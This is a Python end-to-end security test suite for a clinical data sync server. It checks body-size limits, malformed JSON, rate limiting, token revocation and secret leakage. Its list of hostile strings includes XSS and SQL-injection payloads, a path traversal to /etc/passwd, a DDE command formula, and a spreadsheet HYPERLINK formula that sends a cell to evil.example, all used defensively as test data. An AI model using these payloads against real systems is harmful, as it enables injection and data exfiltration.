"""Security suite over the wire (IA-02, IA-04, IA-11..13, PS-05, PS-08, PS-09): a real server process
(waitress) on 127.0.0.1 reached with raw HTTP, the real desktop client where a client is involved.

The Flask-level tests in ``tests/server`` cover each rule; these check that the rules still hold
once waitress parses the bytes (chunked bodies, lying or missing lengths, spoofed forwarding headers),
and end with a sweep for a sentinel password, token and pairing code in every log, audit row and
database file the module produced.
"""

from __future__ import annotations

import http.client
import json
import re
import time
from pathlib import Path

import pytest

from desktop.sync.pairing import export_unsent
from shared.canonical import record_sha256
from tests.evidence.devices import Device, server_records, server_rows
from tests.support.live_server import LiveServer
from tests.support.records import make_alsfrs, make_nasal

pytestmark = pytest.mark.e2e

SENTINEL_PASSWORD = "Sentinel-Passw0rd-7f3a9c2e41"
SYNC, PAIR, CHANGES = "/api/v1/sync/records", "/api/v1/devices/pair", "/api/v1/sync/changes"
MIB = 1024 * 1024
#: every secret this module handled, swept for at the end
SECRETS: dict[str, str] = {"staff password": SENTINEL_PASSWORD}


@pytest.fixture(scope="module")
def srv(tmp_path_factory):
    with LiveServer(tmp_path_factory.mktemp("security"), subjects=("S-001", "S-002"),
                    staff_password=SENTINEL_PASSWORD) as server:
        yield server


def pair(srv: LiveServer, subject: str = "S-001", role: str = "participant") -> dict:
    code = srv.pairing_code(subject, role)["code"]
    status, body = srv.request("POST", PAIR, {"code": code, "device_name": "security pc"})
    assert status == 201, body
    SECRETS[f"pairing code {len(SECRETS)}"] = code
    SECRETS[f"token {len(SECRETS)}"] = body["token"]
    return body


@pytest.fixture(scope="module")
def device(srv):
    return pair(srv)


def raw(srv: LiveServer, method: str, path: str, body: bytes | None = None, headers: dict | None = None,
        chunked: bool = False) -> tuple[int, dict]:
    """One request with exactly these bytes; (status, JSON body)."""
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=30)
    try:
        if chunked:
            conn.putrequest(method, path)
            for key, value in (headers or {}).items():
                conn.putheader(key, value)
            conn.putheader("Transfer-Encoding", "chunked")
            conn.endheaders()
            for start in range(0, len(body or b""), 64 * 1024):
                piece = body[start:start + 64 * 1024]
                conn.send(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
            conn.send(b"0\r\n\r\n")
        else:
            conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        data = resp.read()
    finally:
        conn.close()
    return resp.status, json.loads(data)


def auth(token: str) -> dict:
    return {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}


def assert_contract_error(status: int, body: dict, expected: int, code: str | None = None) -> None:
    assert status == expected, (status, body)
    assert body["ok"] is False and body["status"] == expected and body["error"]
    assert isinstance(body["errors"], list)
    if code:
        assert body["code"] == code, body
    assert "Traceback" not in json.dumps(body)


def record_count(srv: LiveServer) -> int:
    return server_rows(srv.db_path, "SELECT COUNT(*) FROM records")[0][0]


# --- sizes ----------------------------------------------------------------------------------------

def test_oversized_bodies_are_413_with_or_without_a_length_and_store_nothing(srv, device):
    before = record_count(srv)
    big = make_nasal("S-001")
    big["payload"]["notes"] = "x" * (2 * MIB)
    body = json.dumps({"records": [big], "client_time": None}).encode()
    assert_contract_error(*raw(srv, "POST", SYNC, body, auth(device["token"])), 413, "request.too_large")
    # no Content-Length at all: the limit still holds on the decoded stream
    assert_contract_error(*raw(srv, "POST", SYNC, body, auth(device["token"]), chunked=True), 413,
                          "request.too_large")
    assert_contract_error(*raw(srv, "POST", PAIR, b" " * (2 * MIB + 1), {"Content-Type": "application/json"}),
                          413, "request.too_large")
    many = [make_nasal("S-001") for _ in range(501)]
    status, answer = raw(srv, "POST", SYNC, json.dumps({"records": many}).encode(), auth(device["token"]))
    assert_contract_error(status, answer, 413, "sync.too_many_records")
    assert record_count(srv) == before


def test_a_body_just_under_the_limit_is_read_whole_even_when_chunked(srv, device):
    env = make_nasal("S-001")
    env["payload"]["notes"] = "壹" * 2000        # the longest note the contract allows, 3 bytes a char
    status, answer = raw(srv, "POST", SYNC, json.dumps({"records": [env]}, ensure_ascii=False).encode(),
                         auth(device["token"]), chunked=True)
    assert status == 200 and answer["results"][0]["status"] == "accepted"


# --- malformed input --------------------------------------------------------------------------------

MALFORMED = {
    "empty": b"",
    "truncated": b'{"records": [',
    "not utf-8": b'{"records": [], "x": "\xff\xfe"}',
    "NaN": b'{"records": [], "client_time": NaN}',
    "Infinity": b'{"records": [-Infinity]}',
    "trailing garbage": b'{"records": []} {}',
    "single quotes": b"{'records': []}",
    "deep nesting": b"[" * 100_000 + b"]" * 100_000,
    "deep objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "lone surrogate in a note": None,     # built below from a valid record
    "lone surrogate in a key": b'{"records": [], "\\udc00": 1}',
    "lone surrogate in the time": b'{"records": [], "client_time": "\\ud800"}',
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_json_is_400_on_both_json_endpoints(srv, device, name):
    body = MALFORMED[name]
    if body is None:
        env = make_nasal("S-001")
        env["payload"]["notes"] = "PLACEHOLDER"
        body = json.dumps({"records": [env]}).replace("PLACEHOLDER", "\\ud83d alone").encode()
    for path, headers in ((SYNC, auth(device["token"])), (PAIR, {"Content-Type": "application/json"})):
        status, answer = raw(srv, "POST", path, body, headers)
        assert_contract_error(status, answer, 400)
        assert answer["code"] in ("request.malformed_json", "validation.invalid"), answer


def test_lone_surrogates_never_reach_the_database_and_a_pairing_code_survives_them(srv):
    """Found by this suite: ``"\\ud800"`` is valid JSON grammar but not text; it crashed the
    canonical hash (UTF-8) with a 500 and would have crashed any insert. Now 400, nothing used up."""
    code = srv.pairing_code("S-002")["code"]
    body = json.dumps({"code": code, "device_name": "PLACEHOLDER"}).replace("PLACEHOLDER", "pc \\udfff")
    status, answer = raw(srv, "POST", PAIR, body.encode(), {"Content-Type": "application/json"})
    assert_contract_error(status, answer, 400, "request.malformed_json")
    # a well-formed surrogate pair is an ordinary character (U+1F9EA) and the code still works
    body = json.dumps({"code": code, "device_name": "pc \U0001f9ea"}, ensure_ascii=True).encode()
    status, answer = raw(srv, "POST", PAIR, body, {"Content-Type": "application/json"})
    assert status == 201, answer
    SECRETS["pairing code (surrogates)"], SECRETS["token (surrogates)"] = code, answer["token"]
    assert server_rows(srv.db_path, "SELECT name FROM devices WHERE id = ?",
                       (answer["device_id"],))[0]["name"] == "pc \U0001f9ea"


# --- hostile strings ----------------------------------------------------------------------------

HOSTILE = [
    "<script>alert('x')</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE records; --",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} #{7*7} %s %n",
    "../../../../etc/passwd",
    "\u202eevil\u202c \u200b\u200d zero-width",
    "NUL\u0000BEL\u0007ESC\u001b[31mred",
    "line one\r\nline two\rthree\n",
    "患者说：鼻子有点痛 🧪👩‍⚕️",
    "x" * 2000,
]


def test_hostile_strings_are_stored_verbatim_and_come_back_as_data(srv, device):
    envs = []
    for text in HOSTILE:
        env = make_nasal("S-001")
        env["payload"]["notes"] = text
        envs.append(env)
    dose = make_alsfrs("S-001")
    envs.append(dose)
    status, answer = srv.request("POST", SYNC, {"records": envs, "client_time": None}, token=device["token"])
    assert status == 200
    results = answer["results"]
    assert [r["status"] for r in results] == ["accepted"] * len(envs)
    assert [r["receipt"]["sha256"] for r in results] == [record_sha256(e) for e in envs]
    rows = {r["id"]: r for r in server_rows(srv.db_path, "SELECT id, envelope, sha256 FROM records")}
    for env in envs:
        stored = json.loads(rows[env["id"]]["envelope"])
        assert stored == env                                   # byte-for-byte the same values
        assert record_sha256(stored) == rows[env["id"]]["sha256"]
    versions = server_rows(srv.db_path, "SELECT record_id, payload FROM record_versions")
    payloads = {v["record_id"]: json.loads(v["payload"]) for v in versions}
    assert [payloads[e["id"]].get("notes") for e in envs[:-1]] == HOSTILE
    # and a replay of the same bytes is a duplicate, not a new record (hash of exactly these values)
    status, again = srv.request("POST", SYNC, {"records": envs}, token=device["token"])
    assert {r["status"] for r in again["results"]} == {"duplicate"}


# --- pairing-code guessing ----------------------------------------------------------------------

def test_pairing_code_guessing_is_stopped_with_429_and_forwarding_headers_do_not_reset_it(tmp_path):
    with LiveServer(tmp_path / "guessing", subjects=("S-001",)) as guarded:
        good = guarded.pairing_code("S-001")["code"]
        SECRETS["pairing code (guessing)"] = good
        guesses = [f"ZZZZ-ZZZZ-{i:02d}" for i in range(5)]
        for guess in guesses:
            status, body = guarded.request("POST", PAIR, {"code": guess, "device_name": "bot"})
            assert_contract_error(status, body, 400, "pairing.code_invalid")
        # the sixth attempt is refused before the code is looked at, even the right code
        spoofs = [{}, {"X-Forwarded-For": "10.1.2.3"}, {"Forwarded": "for=10.9.9.9"},
                  {"X-Real-IP": "192.0.2.1"}]
        for extra in spoofs:
            body = json.dumps({"code": good, "device_name": "bot"}).encode()
            status, answer = raw(guarded, "POST", PAIR, body, {"Content-Type": "application/json", **extra})
            assert_contract_error(status, answer, 429, "pairing.rate_limited")
        row = server_rows(guarded.db_path, "SELECT used_at, device_id FROM pairing_codes")[0]
        assert row["used_at"] is None and row["device_id"] is None     # the code was not spent
        # failures go to the bounded security log (issue 16), not one audit row each
        audit = server_rows(guarded.db_path, "SELECT kind AS action, detail, client_addr FROM security_events"
                                             " WHERE kind LIKE 'pairing.%'")
        actions = [a["action"] for a in audit]
        assert actions.count("pairing.failed") == 5 and actions.count("pairing.rate_limited") == len(spoofs)
        dump = json.dumps([dict(a) for a in audit]) + json.dumps(
            [dict(a) for a in server_rows(guarded.db_path, "SELECT * FROM audit")])
        assert not any(g.replace("-", "") in dump.replace("-", "") for g in guesses + [good])
        assert all(a["client_addr"] == "127.0.0.1" for a in audit)
        server_log = (guarded.tmp_dir / "server.log").read_text("utf-8", "replace")
        assert good not in server_log and not any(g in server_log for g in guesses)


# --- revoked and unknown tokens, through the real client -------------------------------------

def test_revocation_takes_effect_at_once_and_the_client_keeps_and_exports_its_entries(srv, tmp_path):
    code = srv.pairing_code("S-002")["code"]
    SECRETS["pairing code (revoked)"] = code
    dev = Device(tmp_path, "old-laptop", srv.url, code)
    token = dev.tokens.load(dev.device_id)
    SECRETS["token (revoked)"] = token
    dev.create(3)
    assert dev.sync_until_settled(time.monotonic() + 30)[-1] == "ok"
    dev.create(4)
    srv.cli("device", "revoke", dev.device_id, "--reason", "laptop stolen")
    forged = ("y" if token[0] == "x" else "x") + token[1:]   # one character changed (never the same token)
    for method, path, body in (("POST", SYNC, b'{"records": []}'), ("GET", CHANGES + "?since=0", None)):
        assert_contract_error(*raw(srv, method, path, body, auth(token)), 401, "auth.device_revoked")
        assert_contract_error(*raw(srv, method, path, body, auth(forged)), 401, "auth.token_invalid")
        assert_contract_error(*raw(srv, method, path, body, {"Authorization": "Basic " + token}), 401,
                              "auth.token_invalid")
    result = dev.engine.run()
    assert result.outcome == "revoked" and dev.waiting() == 4       # kept, not dropped
    assert dev.engine.run().outcome == "revoked" and not dev.engine.due()   # stops trying
    used = server_rows(srv.db_path, "SELECT COUNT(*) FROM security_events WHERE kind = 'device.revoked_token_used'"
                                    " AND detail LIKE ?", (f'%"{dev.device_id}"%',))[0][0]
    assert used >= 3
    # the person exports the unsent entries; the site imports them through the same idempotent ingest
    path = tmp_path / "unsent.json"
    assert export_unsent(dev.store, path) == 4
    out = srv.cli("import", str(path))
    assert out["accepted"] == 4 and out["rejected"] == out["conflict"] == 0
    again = srv.cli("import", str(path))
    assert again["duplicate"] == 4 and again["accepted"] == 0
    stored = server_records(srv.db_path)
    assert all(stored[i] == sha for i, sha in dev.created().items())
    dev.close()


def test_a_device_reaches_only_its_own_participant(srv, device):
    other = make_nasal("S-002")
    status, answer = srv.request("POST", SYNC, {"records": [other]}, token=device["token"])
    assert answer["results"][0]["status"] == "rejected"
    assert answer["results"][0]["errors"][0]["rule"] == "device_binding"
    assert other["id"] not in server_records(srv.db_path)
    status, feed = srv.request("GET", CHANGES + "?since=0", token=device["token"])
    subjects = {c["data"].get("subject") for c in feed["changes"] if isinstance(c["data"], dict)}
    assert "S-002" not in subjects
    assert server_rows(srv.db_path, "SELECT COUNT(*) FROM audit WHERE action = 'security.device_binding'")[0][0]


# --- the sweep: no secret anywhere (runs last in this module on purpose) ----------------------------

def _text_of(path: Path) -> str:
    return path.read_bytes().decode("utf-8", "replace") if path.exists() else ""


def _staff_sign_in(srv: LiveServer, password: str) -> "requests.Session":
    """Sign in on the staff pages over HTTP as a browser does (form, CSRF, cookie)."""
    import requests

    session = requests.Session()
    page = session.get(srv.url + "/staff/login", headers={"Accept": "text/html"}, timeout=30)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    session.post(srv.url + "/staff/login", data={"csrf_token": token, "email": srv.staff_email,
                                                 "password": password, "next": "/staff/participants"},
                 headers={"Accept": "text/html"}, allow_redirects=False, timeout=30)
    return session


def test_staff_sign_in_over_http_keeps_the_password_and_the_cookie_out_of_every_trail(srv):
    wrong = _staff_sign_in(srv, SENTINEL_PASSWORD + "-wrong")
    assert "als_epro_staff" not in wrong.cookies
    SECRETS["wrong staff password"] = SENTINEL_PASSWORD + "-wrong"
    good = _staff_sign_in(srv, SENTINEL_PASSWORD)
    cookie = good.cookies.get("als_epro_staff")
    assert cookie and good.get(srv.url + "/staff/participants", headers={"Accept": "text/html"},
                               timeout=30).status_code == 200
    SECRETS["staff session cookie"] = cookie
    actions = [r["action"] for r in server_rows(srv.db_path, "SELECT action FROM audit WHERE action LIKE 'staff.%'")]
    assert "staff.login" in actions
    assert server_rows(srv.db_path, "SELECT COUNT(*) FROM security_events WHERE kind = 'staff.login_failed'")[0][0]
    assert good.post(srv.url + "/staff/logout", data={"csrf_token": re.search(
        r'name="csrf_token" value="([^"]+)"', good.get(srv.url + "/staff/participants",
                                                        headers={"Accept": "text/html"}).text).group(1)},
        allow_redirects=False, timeout=30).status_code == 303
    # the ended session's cookie no longer opens anything
    stale = good.get(srv.url + "/staff/participants", headers={"Accept": "text/html"}, allow_redirects=False,
                     cookies={"als_epro_staff": cookie}, timeout=30)
    assert stale.status_code in (302, 303, 401)


def test_zz_no_password_token_or_pairing_code_in_any_log_audit_row_or_database(srv, device, tmp_path_factory):
    # the CLI reads a password on stdin and never echoes it
    added = srv.cli("staff", "add", "monitor@site.example", "--site", srv.site, "--role", "monitor",
                    input=SENTINEL_PASSWORD + "x\n")
    assert SENTINEL_PASSWORD not in json.dumps(added)
    assert srv.cli("audit", "verify")["ok"] is True
    secrets = dict(SECRETS)
    for name, value in list(secrets.items()):
        if "pairing code" in name:
            secrets[name + " (bare)"] = value.replace("-", "")
    assert sum("token" in n for n in secrets) >= 3 and sum("pairing code" in n for n in secrets) >= 3
    haystacks = {
        "server log": _text_of(srv.tmp_dir / "server.log"),
        "audit rows": json.dumps([dict(r) for r in server_rows(srv.db_path, "SELECT * FROM audit")],
                                 ensure_ascii=False),
    }
    for suffix in ("", "-wal"):
        haystacks[f"server database{suffix}"] = _text_of(Path(str(srv.db_path) + suffix))
    base = tmp_path_factory.getbasetemp()
    for db_file in base.rglob("als-epro.sqlite*"):                 # the desktop clients' databases
        haystacks[f"client {db_file.parent.name}/{db_file.name}"] = _text_of(db_file)
    assert haystacks["server log"] is not None and len(haystacks["audit rows"]) > 1000
    found = [(what, where) for what, secret in secrets.items() for where, text in haystacks.items()
             if secret in text]
    assert found == []
    # and nothing that looks like a raw 43-character bearer token sits in the audit trail
    assert not re.search(r"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])", haystacks["audit rows"])
